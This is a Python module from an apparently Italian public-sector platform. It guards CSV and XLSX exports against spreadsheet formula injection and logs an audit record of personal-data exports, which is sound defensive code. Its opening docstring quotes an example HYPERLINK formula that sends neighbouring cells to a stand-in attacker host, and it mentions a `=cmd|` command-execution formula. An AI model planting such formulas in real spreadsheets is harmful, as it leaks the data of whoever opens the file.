"""The one way the platform writes spreadsheet cells: text never becomes a live formula.

Names and titles come from people (an objective's title, a body's name, a person imported from
an HR file). A text starting with `=`, `+`, `-` or `@` would be a formula when the file is
opened in Excel or LibreOffice (`=HYPERLINK("https://evil.example/?"&A1, "Apri")` sends the
neighbouring cells away, `=cmd|...` runs a program), so every XLSX and CSV the platform writes
goes through this module:

- CSV (`csv_writer`, `csv_dict_writer`): such a text is prefixed with an apostrophe, which the
  spreadsheet shows as text (OWASP's advice); a plain number such as "-3" or "-0,5" is left as is.
- XLSX (`append_row`): such a text is stored as a text cell, never as a formula, so the reader
  sees it exactly as it was written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?\d+([.,]\d+)*%?")


def is_formula_like(value: object) -> bool:
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not PLAIN_NUMBER.fullmatch(value)
    )


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: a formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class _SafeWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, writer: csv.DictWriter[str]) -> None:
        self._writer = writer

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> _SafeWriter:
    """`csv.writer(out, **kwargs)` whose rows are neutralised."""
    return _SafeWriter(csv.writer(out, **kwargs))


def csv_dict_writer(out: Any, fieldnames: list[str], **kwargs: Any) -> _SafeDictWriter:
    """`csv.DictWriter(out, fieldnames, **kwargs)` whose rows are neutralised."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames=fieldnames, **kwargs))


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` on an openpyxl worksheet, with every formula-like text kept as a
    text cell (openpyxl would otherwise store a text starting with `=` as a formula)."""
    values = list(values)
    sheet.append(values)
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            sheet.cell(row=sheet.max_row, column=column).data_type = "s"


def record_export(
    request: Any, body: Any, what: str, *, obj: Any = None, person: Any = None
) -> None:
    """A file of named people's data leaves the platform: the trail says who took what, by
    which route and with which filters (and, for one person's document, whose it is)."""
    from agilepa.audit import services as audit

    match = request.resolver_match
    if match is None:
        route = request.path
    elif request.path.startswith("/api/"):
        route = f"{request.method} /{match.route}"
    else:
        route = match.view_name
    filters = {key: request.GET.getlist(key) for key in sorted(request.GET)}
    audit.record(
        "export",
        body=body,
        obj=obj,
        object_type="" if obj is not None else route[:80],
        person=person,
        changes={"route": route, "what": what, "filters": filters},
    )
